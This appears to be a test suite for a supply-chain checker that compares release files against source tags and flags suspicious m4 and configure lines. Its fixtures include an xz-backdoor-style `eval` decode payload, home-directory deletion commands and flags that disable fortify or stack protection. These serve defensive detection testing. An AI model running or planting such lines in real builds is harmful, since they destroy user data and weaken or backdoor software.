    expect((await ruleGeneratedExplainer().judge(added('docs/tool.1', '.TH TOOL 1\n'), view({ 'docs/tool.1': '.TH TOOL 1\n' }, man)))?.outcome).toBe('explained')
  })
  it('explains the file a rule writes where the tag holds a link to a file it does not have', async () => {
    const am = 'pubsuffix.cc: $(srcdir)/names.dat\n\t$(AM_V_GEN)./mkpubsuffixcc\nnames.dat:\n\tcurl -s https://example.org/list.dat > $@\n'
    const src = { 'Makefile.am': am, 'mkpubsuffixcc': '#!/bin/sh\n' }
    const link: TreeEntry = { path: 'pubsuffix.cc', kind: 'symlink', mode: 0o120777, size: 15, linkTarget: '../pubsuffix.cc' }
    const code = 'const char* g_pubsuffix[] = {};\n'
    const typeChanged = (target: string, base: Record<string, string>): [Difference, ReturnType<typeof view>] => [
      { path: 'pubsuffix.cc', status: 'type-differs', artifact: entry('pubsuffix.cc', code), source: { ...link, linkTarget: target } },
      view({ 'pubsuffix.cc': code }, base),
    ]
    const [dangling, v1] = typeChanged('../pubsuffix.cc', src)
    expect((await judge(dangling, v1, [ruleGeneratedExplainer()], new Map()))?.outcome).toBe('explained')
    // no rule of the tag writes it: still a link that became a file
    const [unmade, v2] = typeChanged('../pubsuffix.cc', { 'Makefile.am': '', 'mkpubsuffixcc': '#!/bin/sh\n' })
    expect((await judge(unmade, v2, [ruleGeneratedExplainer()], new Map()))?.findings?.[0]?.ruleId).toBe('verify/type-changed')
    // a link to a file the tag has is that file's copy, whatever rule names the link
    const [resolved, v3] = typeChanged('real.cc', { ...src, 'real.cc': 'int real;\n' })
    expect((await judge(resolved, v3, [ruleGeneratedExplainer()], new Map()))?.outcome).toBe('unexplained')
  })
  it('explains a bison parser whose grammar is in the tag, and weighs one whose grammar is nowhere as code', async () => {
    const parser = '/* A Bison parser, made by GNU Bison 3.8.2.  */\n#line 2 "parse.y"\nint yyparse(void);\n'
    const ok = await generatedExplainer().judge(added('src/parse.c', parser), view({ 'src/parse.c': parser }, { 'src/parse.y': '%%' }))
    expect(ok?.outcome).toBe('explained')
    // without its grammar the header proves nothing (a skeleton file may quote it): the file is judged as code
    expect(await generatedExplainer().judge(added('src/parse.c', parser), view({ 'src/parse.c': parser }, {}))).toBeUndefined()
    const orphan = await judgeUnexplained(added('src/parse.c', parser), view({ 'src/parse.c': parser }, {}), new Map())
    expect(orphan?.findings?.[0]?.severity).toBe('high')
  })
})

describe('vendored files of unknown versions, judged by what they add', () => {
  it('opens the catalog only for a difference it judges, and once for many', async () => {
    const catalog = await Catalog.load({ systemDirs: false })
    let opened = 0
    const explainer = vendoredExplainer(async () => {
      opened += 1
      return catalog
    })
    const macro = 'AC_DEFUN([X_CHECK], [:])\n'
    const modeOnly: Difference = { path: 'm4/x.m4', status: 'mode-differs', artifact: entry('m4/x.m4', macro, 0o755), source: entry('m4/x.m4', macro) }
    expect(await explainer.judge(modeOnly, view({ 'm4/x.m4': macro }))).toBeUndefined()
    expect(opened).toBe(0)
    const judged = await Promise.all(['m4/a.m4', 'm4/b.m4', 'build-aux/c'].map((p) => explainer.judge(added(p, `${macro}dnl ${p}\n`), view({ [p]: macro }))))
    expect(judged).toEqual([undefined, undefined, undefined])
    expect(opened).toBe(1)
  })

  const installedCopying = ['1.16', '1.17', '1.18'].map((v) => `/usr/share/automake-${v}/COPYING`).find((p) => existsSync(p))
  it.runIf(installedCopying !== undefined)("explains a link to an installed tool's file shipped as that file's known bytes, and nothing else so shipped", async () => {
    const catalog = await Catalog.load({})
    const copying = readFileSync(installedCopying as string, 'utf8')
    const shipped = (target: string, text: string): [Difference, ReturnType<typeof view>] => [
      { path: 'COPYING', status: 'type-differs', artifact: { ...entry('COPYING', text), sha256: createHash('sha256').update(text).digest('hex') }, source: { path: 'COPYING', kind: 'symlink', mode: 0o120777, size: target.length, linkTarget: target } },
      view({ COPYING: text }, { COPYING: { link: target }, 'doc/COPYING': 'Permission is hereby granted.\n' }),
    ]
    const judged = (target: string, text: string) => judge(...shipped(target, text), [vendoredExplainer(async () => catalog)], new Map())
    const ok = await judged('/usr/share/automake-1.10/COPYING', copying)
    expect(ok?.outcome).toBe('explained')
    expect(ok?.outcome === 'explained' && ok.explained.how).toMatch(/automake-1\.10\/COPYING.*identical to automake/)
    // other bytes, a link naming another file, or a link to a file the tag has (whose change it is): not explained so
    for (const [target, text] of [
      ['/usr/share/automake-1.10/COPYING', `${copying}\n# sh tests/x.dat\n`],
      ['/usr/share/automake-1.10/INSTALL', copying],
      ['doc/COPYING', copying],
    ] as const) {
      const j = await judged(target, text)
      expect(j?.outcome, target).toBe('unexplained')
    }
  })

  const system = '/usr/share/aclocal/ltsugar.m4'
  it.runIf(existsSync(system))('is low when the added lines are quiet, high with the flagged lines first when a rule trips', async () => {
    const catalog = await Catalog.load({})
    const original = readFileSync(system, 'utf8')
    const lines = original.split('\n')
    const at = lines.findIndex((l) => l.startsWith('m4_define('))
    const quiet = [...lines.slice(0, at), '# local tweak for an older m4', 'm4_define([lt_local_tweak], [1])', ...lines.slice(at)].join('\n')
    const q = await vendoredExplainer(async () => catalog).judge(added('m4/ltsugar.m4', quiet), view({ 'm4/ltsugar.m4': quiet }))
    expect(q?.findings?.[0]?.severity).toBe('low')
    expect(q?.findings?.[0]?.message).toMatch(/not in the catalog \(version 6\); 2 line\(s\) differ/)

    const payload = ['  if test "x$host_os" = "xlinux-gnu"; then', '    eval `tr "\\t \\-_" " \\t_\\-" < "$srcdir/tests/files/bad-3.xz" | xz -d 2>/dev/null`', '  fi']
    const loud = [...lines.slice(0, at), ...payload, ...lines.slice(at)].join('\n')
    const l = await vendoredExplainer(async () => catalog).judge(added('m4/ltsugar.m4', loud), view({ 'm4/ltsugar.m4': loud }))
    const f = l?.findings?.[0]
    expect(f?.severity).toBe('high')
    expect(f?.evidence?.split('\n').slice(0, 4).join('\n')).toContain('xz -d')
  })
})

describe('rule hits that configure inherits from an m4 file', () => {
  const hit = (evidence: string): Finding => ({ ruleId: 'scan/environment-gating', severity: 'medium', confidence: 'medium', path: 'configure', message: 'gated', evidence })
  const libtool = "case $host_os in\n  aix*)\n    _LT_TAGVAR(archive_expsym_cmds, $1)='sed < $export_symbols > $output_objdir/$libname-symbols.expsym'\n    ;;\nesac\n"
  const macros = new Map([['m4/libtool.m4', tokenLines(libtool)]])
  it('names the macro file that holds the lines, libtool tags and all', () => {
    expect(inheritedFrom(hit('100: case $host_os in\n101: archive_expsym_cmds_CXX="sed < $export_symbols > $output_objdir/$libname-symbols.expsym"'), macros)).toBe('m4/libtool.m4')
  })
  it('keeps a line no macro file holds', () => {
    expect(inheritedFrom(hit('100: case $host_os in\n101: eval `tr "a-z" "n-za-m" < tests/files/bad-3.xz | xz -d`'), macros)).toBeUndefined()
  })
  it('needs the words of a line together in the macro file, not scattered over it', () => {
    // a macro file that mentions README in a comment and /dev/null in a command forty lines below
    const rpm = ['dnl   %doc AUTHORS COPYING NEWS README', ...Array.from({ length: 40 }, (_, i) => `AC_SUBST([RPM_VAR_${i}])`), 'rpmbuild --version >/dev/null 2>&1', 'echo "$srcdir"'].join('\n')
    const sourced = hit('14018: . "$srcdir/README" 2>/dev/null')
    expect(inheritedFrom(sourced, new Map([['/usr/share/aclocal/ax_dist_rpm.m4', tokenLines(rpm)]]))).toBeUndefined()
    // the same words on neighbouring lines of a macro are its code
    expect(inheritedFrom(sourced, new Map([['m4/readme.m4', tokenLines('AC_DEFUN([X_README], [\n  if test -f "$srcdir/README"; then\n    . "$srcdir/README" 2>/dev/null\n  fi])')]]))).toBe('m4/readme.m4')
    expect(inheritedFrom(sourced, new Map([['m4/split.m4', tokenLines('x="$srcdir/README"\n\n\n\n\n\n\ny=/dev/null')]]))).toBeUndefined()
  })
  it("reads a path's punctuation as words: a line that deletes the home is not held by one that deletes a test directory", () => {
    const automake = new Map([['aclocal.m4', tokenLines('am_cv_prog_cc_c_o=no\n[rm -rf .tst 2>/dev/null\nmkdir .tst 2>/dev/null]')]])
    expect(inheritedFrom(hit('12023: rm -rf ~/ 2>/dev/null'), automake)).toBeUndefined()
    expect(inheritedFrom(hit('12023: rm -rf "${HOME}"/.* 2>/dev/null'), automake)).toBeUndefined()
    expect(inheritedFrom(hit('12023: rm -rf .tst 2>/dev/null'), automake)).toBe('aclocal.m4')
    // the same punctuation in the macro file is its code
    expect(inheritedFrom(hit('12023: rm -rf ~/ 2>/dev/null'), new Map([['m4/clean.m4', tokenLines('AC_DEFUN([X_CLEAN], [\n  rm -rf ~/ 2>/dev/null\n])')]]))).toBe('m4/clean.m4')
  })
  it("holds a line a macro's body and its call's arguments write together, and names the call", () => {
    const appendFlag = 'AC_DEFUN([AX_APPEND_FLAG],\n[AS_VAR_PUSHDEF([FLAGS], [m4_default($2,_AC_LANG_PREFIX[FLAGS])])dnl\nAS_VAR_SET_IF(FLAGS,[\n  AS_CASE([" AS_VAR_GET(FLAGS) "],\n    [*" $1 "*], [AC_RUN_LOG([: FLAGS already contains $1])],\n    [\n     AS_VAR_APPEND(FLAGS,[" $1"])\n    ])\n  ])\n])\nAC_DEFUN([AX_OTHER], [:])\n'
    const configureAc = 'AC_INIT([x], [1])\nAS_IF([test "x$enable_asan" = xyes],\n  [AX_APPEND_FLAG([-D_FORTIFY_SOURCE=0], [san_CFLAGS])])\nAC_OUTPUT\n'
    const inputs = new Map([['configure.ac', tokenLines(configureAc)], ['m4/ax_append_flag.m4', tokenLines(appendFlag)]])
    const weakened = (evidence: string): Finding => ({ ...hit(evidence), ruleId: 'scan/weakened-defences', severity: 'high' })
    expect(inheritedFrom(weakened('31452:      as_fn_append san_CFLAGS " -D_FORTIFY_SOURCE=0"'), inputs)).toBe('configure.ac, by its call of AX_APPEND_FLAG (defined in m4/ax_append_flag.m4)')
    expect(inheritedFrom(weakened('31445: (: san_CFLAGS already contains -D_FORTIFY_SOURCE=0) 2>&5'), inputs)).toMatch(/^configure\.ac, by its call of AX_APPEND_FLAG/)
    expect(inheritedFrom(weakened('31444: { { printf "%s\\n" "$as_me:${as_lineno-$LINENO}: : san_CFLAGS already contains -D_FORTIFY_SOURCE=0"; } >&5'), inputs)).toMatch(/^configure\.ac, by its call/)
    // a call below a hundred lines that share a common word with the line
    const busy = `${'for x in a b; do :; done\n'.repeat(100)}${configureAc}`
    const flags = 'AC_DEFUN([AX_APPEND_COMPILE_FLAGS],\n[for flag in $1; do\n  AX_CHECK_COMPILE_FLAG([$flag], [AX_APPEND_FLAG([$flag], [$2])])\ndone\n])\n'
    const compile = new Map([['configure.ac', tokenLines(busy.replace('AX_APPEND_FLAG([-D_FORTIFY_SOURCE=0]', 'AX_APPEND_COMPILE_FLAGS([-Wp,-U_FORTIFY_SOURCE]'))], ['m4/ax_append_compile_flags.m4', tokenLines(flags)]])
    expect(inheritedFrom(weakened('31477: for flag in -Wp,-U_FORTIFY_SOURCE; do'), compile)).toMatch(/by its call of AX_APPEND_COMPILE_FLAGS/)
    // a flag no call names, a call of a macro defined nowhere, or a body that does not write the rest
    expect(inheritedFrom(weakened('31452:      as_fn_append san_CFLAGS " -fno-stack-protector"'), inputs)).toBeUndefined()
    expect(inheritedFrom(weakened('31452:      as_fn_append san_CFLAGS " -D_FORTIFY_SOURCE=0"'), new Map([['configure.ac', tokenLines(configureAc)]]))).toBeUndefined()
    expect(inheritedFrom(weakened('31452:      eval san_CFLAGS=`cat tests/files/x.bin` " -D_FORTIFY_SOURCE=0"'), inputs)).toBeUndefined()
  })
  it('names the first macro file in order that holds the lines, and reads none after it', () => {
    const read: string[] = []
    const ordered = {
      *[Symbol.iterator]() {
        for (const [path, tokens] of [['m4/other.m4', tokenLines('case')], ...macros, ['/usr/share/aclocal/libtool.m4', tokenLines('unread')]] as const) {
          read.push(path)
          yield [path, tokens] as const
        }
      },
    }
    expect(inheritedFrom(hit('100: case $host_os in\n101: archive_expsym_cmds_CXX="sed < $export_symbols > $output_objdir/$libname-symbols.expsym"'), ordered)).toBe('m4/libtool.m4')
    expect(read).toEqual(['m4/other.m4', 'm4/libtool.m4', 'm4/other.m4', 'm4/libtool.m4'])
  })
})

describe('generated by rules in an included fragment', () => {
  it('finds the rule in a fragment the top Makefile.am includes, paths relative to the top', async () => {
    const src = { 'Makefile.am': 'include test/include.am\n', 'test/include.am': 'test/rpc.gen.c: test/rpc.desc $(top_srcdir)/gen-rpc.py\n\t$(PYTHON) gen-rpc.py\n', 'test/rpc.desc': 'x', 'gen-rpc.py': 'y' }
    const j = await ruleGeneratedExplainer().judge(added('test/rpc.gen.c', 'int x;\n'), view({ 'test/rpc.gen.c': 'int x;\n' }, src))
    expect(j?.outcome).toBe('explained')
  })
  it('a byacc parser is recognised by its own marker', async () => {
    const parser = '#include <stdlib.h>\n#define YYBYACC 1\n#define YYMAJOR 1\n#line 20 "cmd-parse.y"\n'
    const j = await generatedExplainer().judge(added('cmd-parse.c', parser), view({ 'cmd-parse.c': parser }, { 'cmd-parse.y': '%%' }))
    expect(j?.outcome).toBe('explained')
  })
})

describe('more release-time shapes', () => {
  it('a pattern rule makes a file from an input with the same stem', async () => {
    const src = { 'Makefile.am': '%-gnu.S: %.s\n\t$(PERL) arm2gnu.pl < $< > $@\n', 'celt/arm/pitch.s': 'x' }
    const j = await ruleGeneratedExplainer().judge(added('celt/arm/pitch-gnu.S', 'x\n'), view({ 'celt/arm/pitch-gnu.S': 'x\n' }, src))
    expect(j?.outcome).toBe('explained')
    expect(await ruleGeneratedExplainer().judge(added('celt/arm/other-gnu.S', 'x\n'), view({ 'celt/arm/other-gnu.S': 'x\n' }, src))).toBeUndefined()
  })
})
